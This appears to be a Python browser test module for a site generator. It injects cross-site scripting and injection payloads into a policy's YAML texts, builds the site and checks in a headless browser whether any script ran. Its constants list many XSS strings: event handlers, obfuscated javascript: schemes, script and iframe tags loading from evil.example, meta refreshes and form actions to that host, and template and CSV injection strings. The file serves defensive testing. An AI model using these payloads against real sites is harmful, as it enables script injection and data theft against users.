"""A policy with an attack in every text that takes one, built and looked at page by page.

The check, which refuses most attacks at their line, is told to let texts pass: what is tried is the
wall behind it.  An attack is put behind each text; where an id, an address or a number could not be
read any more, it stays as it was.
"""

import os
import subprocess
import sys
from collections.abc import Iterator, Sequence
from itertools import cycle
from pathlib import Path
from tempfile import TemporaryDirectory

import yaml
from playwright.sync_api import Browser, Page, sync_playwright

from calculator.authoring import check
from tests.browser.find import system_browser
from tests.browser.watch import watch
from tests.conftest import ROOT
from tests.policies import WHOLE
from tests.site_pages import pages_of
from tests.static_host import StaticHost

DO = "window.struck=1"

ELEMENTS = (
    "img src=x onerror", "svg onload", "body onload", "input autofocus onfocus",
    "video src=x onerror", "details open ontoggle", "audio src=x onerror", "a href=# onclick",
    "div onpointerenter", "object data=x onerror", "marquee onstart", "select autofocus onfocus",
    "svg><animate onbegin", "math><mi onclick", "p style=animation-name:x onanimationstart",
    "button onclick",
)  # fmt: skip
"""Elements with a handler."""

SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:",
    "\x01javascript:", "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:",
    "jav&#x09;ascript:", "javascript&#58;", "java%73cript:", "javascript://a.example/%0a",
    "vbscript:", "data:text/html,<script>", "file:///", "data:text/html;base64,PHNjcmlwdD4=",
    "blob:https://a.example/", "view-source:", "\u00a0javascript:",
)  # fmt: skip
"""Beginnings of addresses that must not be followed, also as people hide them."""

LINKS = (
    "[x]({}{})", "[x](<{}{}>)", "![x]({}{})", "<{}{}>", "[x]: {}{}", "[x]({}{} 'y')",
    "<a href={}{}>x</a>",
)  # fmt: skip
"""How an address gets into a text."""

BREAKS = (
    "\"><b>bold</b>", "' onmouseover='window.struck=1",
    "\" onfocus=\"window.struck=1\" autofocus=\"", "</title><script>window.struck=1</script>",
    "</script><script>window.struck=1</script>", "</style><script>window.struck=1</script>",
    "</textarea><script>window.struck=1</script>",
    "</template><img src=x onerror=window.struck=1>", "<!--", "-->", "<![CDATA[", "]]>",
    "<?php ?>", "<script>window.struck=1</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>", "<script\n>window.struck=1</script\n>",
    "&lt;script&gt;window.struck=1&lt;/script&gt;", "\\<b>",
    "%3Cscript%3Ewindow.struck=1%3C/script%3E", "\uff1cscript\uff1ewindow.struck=1",
    "<iframe srcdoc='<script>parent.struck=1</script>'>", "<iframe src=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>", "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=https://evil.example><input>",
    "<form action=https://evil.example><button>x</button></form>",
    "<object data=//evil.example></object>", "<embed src=//evil.example>",
    "<img src=//evil.example/x.png>", "![x](https://evil.example/x.png)",
    "![x][y]\n\n[y]: https://evil.example/x.png", "![x](//evil.example/x.png)",
    "[x](//evil.example)", "[x](\\\\evil.example)", "[x](/\\evil.example)",
    "<https://evil.example>", "<x@evil.example>",
)  # fmt: skip
"""What ends the element or the attribute that a text stands in, and begins another."""

MARKDOWN = (
    "{: onclick=x }", "{ onmouseover=window.struck=1 }", "{: #sc-text .sc-root }", "{:onclick=x}",
    "# <b>x</b>", "## x {: onclick=x }", "*[x]: <b>y</b>",
    "*[a]: <img src=x onerror=window.struck=1>", "|a|b|\n|-|-|\n|c|d|",
    "\n\n<div markdown onclick=x>", "<div markdown=1>\n\n# x\n\n</div>", "!!! note\n    x",
    "??? note\n    x", "=== \"x\"\n    y", "```\n</code><b>", "~~~ {.js onclick=x}\n~~~",
    "    <b>x</b>", "> <b>x</b>", "- [ ] <b>x</b>", "1. x\n1. y", "x\n:   <b>y</b>",
    "[^1]\n\n[^1]: <b>x</b>", "++ctrl+x++", "{++x++}", "{>>x<<}", "[[x]]", ":smile:",
    ":material-x:", "--8<-- 'x'", "-8<-\nx\n-8<-", "{{ 7 * 7 }}", "{{ config }}", "{% raw %}",
    "{% include '/etc/passwd' %}", "{# x", "`", "``", "\\`", "***", "___", "---", "===", "<br>",
    "&nbsp;", "&#0;", "&#x202e;", "\u202e", "\u2028", "\u2066", "\ufeff", "=cmd()", "+1",
    "@everyone", "-- ", "BEGIN:VCARD", "\r\nATTACH:https://evil.example", "\nEND:VEVENT",
)  # fmt: skip
"""What Markdown, templates, tables and other files would take for theirs."""

ATTACKS = (
    *(f"<{element}={DO}>" for element in ELEMENTS),
    *(f"<{element.replace(' ', '/')}={DO}//" for element in ELEMENTS),
    *(link.format(scheme, DO) for scheme in SCHEMES for link in LINKS),
    *BREAKS,
    *MARKDOWN,
)

STRUCK = (
    "iframe[srcdoc]", "iframe[src*=evil]", "object", "embed", "base", "form[action*=evil]",
    "img[src*=evil]",
    "link[href*=evil]", "[onclick]", "[onerror]", "[onload]", "[onfocus]", "[onmouseover]",
    "[ontoggle]", "[autofocus]", "a[href^='javascript' i]", "a[href^='vbscript' i]",
    "a[href^='data' i]", "a[href^='//']", "b", "marquee", "math", "[http-equiv=refresh]",
)  # fmt: skip
"""What the attacks would make, and the site never does."""

ENOUGH = 400
"""Texts with an attack in them that have to stand in built pages."""

MOST = 0.9
"""Of all attacks, how many have to stand in some text."""

MOST_ROUNDS = 8

UNGUARDED = """
import calculator.authoring.check as check
import calculator.authoring.proof as proof
check.RULES = tuple(rule for rule in check.RULES if rule.__name__ != "texts")
proof.unproven = lambda *_: ""
from mkdocs.__main__ import cli
cli()
"""
"""Builds a site whose texts nobody has checked, nor what its examples come to with them."""

PHRASES = ("phrases", "hints")
TEXT = "tag:yaml.org,2002:str"


def found() -> list[str]:
    """What has struck, and where, once enough texts with attacks were built into a site."""
    told: list[str] = []
    let_in: list[str] = []
    for number in range(MOST_ROUNDS):
        turn = number * len(ATTACKS) // 4 % len(ATTACKS)
        with TemporaryDirectory() as place:
            policy, site = Path(place) / "policy", Path(place) / "site"
            policy.mkdir()
            let_in += attacked(policy, (*ATTACKS[turn:], *ATTACKS[:turn]))
            _build(policy, site)
            with StaticHost(site) as host, sync_playwright() as playwright:
                browser = playwright.chromium.launch(
                    executable_path=system_browser(),
                    args=["--no-sandbox", "--disable-dev-shm-usage"],
                )
                told += _looked_at(browser, host, sorted(pages_of(site)))
                browser.close()
        distinct = len(set(let_in))
        print(f"payloads: {len(let_in)} texts with {distinct} attacks", file=sys.stderr, flush=True)
        if len(let_in) >= ENOUGH and distinct > MOST * len(ATTACKS):
            break
    return told if len(let_in) >= ENOUGH else [f"only {len(let_in)} texts", *told]


def _build(policy: Path, site: Path) -> None:
    command = [sys.executable, "-c", UNGUARDED, "build", "--quiet", "--site-dir", str(site)]
    environment = os.environ | {"POLICY": str(policy)}
    done = subprocess.run(
        command, cwd=ROOT, env=environment, capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stdout + done.stderr


def attacked(directory: Path, some: Sequence[str]) -> list[str]:
    """Writes the policy with attacks in its texts; the attack of each text that takes one."""
    paths = [path for path in sorted(WHOLE.rglob("*")) if path.suffix in (".yml", ".yaml")]
    files = {f"{number}.yml": path.read_text("utf-8") for number, path in enumerate(paths)}
    trees = {name: yaml.compose(text, Loader=yaml.CSafeLoader) for name, text in files.items()}
    attacks = cycle(some)
    for tree in trees.values():
        _add_phrases(tree, attacks)
    # As the lines will be: one value each, so that a message's line names its text.
    texts = [n for tree in trees.values() for n in _texts(tree) if n.tag == TEXT]
    plain = {id(node): node.value for node in texts}
    by = {id(node): next(attacks) for node in texts}
    for node in texts:
        node.value, node.style = f"{node.value} {by[id(node)]}", '"'
    for _ in range(40):
        for name, tree in trees.items():
            text = yaml.serialize(tree, allow_unicode=True, width=100_000)
            (directory / name).write_text(text, encoding="utf-8")
        refused = _refused(directory)
        if not refused:
            break
        for name, tree in trees.items():
            written = yaml.compose((directory / name).read_text("utf-8"), Loader=yaml.CSafeLoader)
            for node, shown in zip(_texts(tree), _texts(written), strict=True):
                lines = range(shown.start_mark.line, shown.end_mark.line + 1)
                if any((name, line) in refused for line in lines):
                    node.value = plain.get(id(node), node.value)
    return [by[id(node)] for node in texts if node.value != plain[id(node)]]


def _add_phrases(node: yaml.Node, attacks: Iterator[str]) -> None:
    """Adds attacks to the phrases; the others are what examples are read by."""
    for pair in node.value if isinstance(node, yaml.MappingNode) else ():
        if pair[0].value in PHRASES and isinstance(pair[1], yaml.SequenceNode):
            pair[1].value.append(
                yaml.ScalarNode(
                    TEXT,
                    f"phrase {len(pair[1].value)} of {pair[0].start_mark.line} {next(attacks)}",
                    style='"',
                )
            )
        else:
            _add_phrases(pair[1], attacks)
    for item in node.value if isinstance(node, yaml.SequenceNode) else ():
        _add_phrases(item, attacks)


def _refused(directory: Path) -> set[tuple[str, int]]:
    """Files and lines (from 0) of what the check will not have, whatever texts say."""
    rules = check.RULES
    check.RULES = tuple(rule for rule in rules if rule.__name__ != "texts")
    try:
        _, problems = check.checked(directory)
    finally:
        check.RULES = rules
    return {(Path(p.place.path).name, p.place.line - 1) for p in problems}


def _texts(node: yaml.Node, key: str = "") -> Iterator[yaml.ScalarNode]:
    if isinstance(node, yaml.ScalarNode):
        yield node
        return
    node.flow_style = False
    if isinstance(node, yaml.MappingNode):
        for name, value in node.value:
            yield from _texts(value, name.value)
    elif key not in PHRASES:
        for item in node.value:
            yield from _texts(item)


def _looked_at(browser: Browser, host: StaticHost, urls: list[str]) -> Iterator[str]:
    troubles: list[str] = []
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    watch(context, troubles)
    page = context.new_page()
    page.on("dialog", lambda dialog: (troubles.append("a dialog"), dialog.dismiss()))
    for url in urls:
        page.goto(host.url + url)
        yield from (f"{url}: {told}" for told in _struck(page))
    page.goto(f"{host.url}calculator/")
    page.wait_for_selector("#sc-text")
    for button in page.locator(".sc-root button").all()[:4]:
        if button.is_visible():
            button.click()
    page.locator("#sc-text").fill("Nobody can open any door")
    page.wait_for_selector("#sc-answer .sc-badge--large, #sc-answer .sc-range", timeout=60_000)
    for fold in page.locator("details > summary").all():
        if fold.is_visible():
            fold.click()
    yield from (f"the calculator: {told}" for told in _struck(page))
    context.close()
    yield from troubles


def _struck(page: Page) -> Iterator[str]:
    if page.evaluate("window.struck"):
        yield "a script of the policy has run"
    for tag in STRUCK:
        if page.locator(tag).count():
            yield f"there is {tag}"
    if page.evaluate("document.documentElement.scrollWidth - innerWidth") > 1:
        yield "the page is wider than the window"
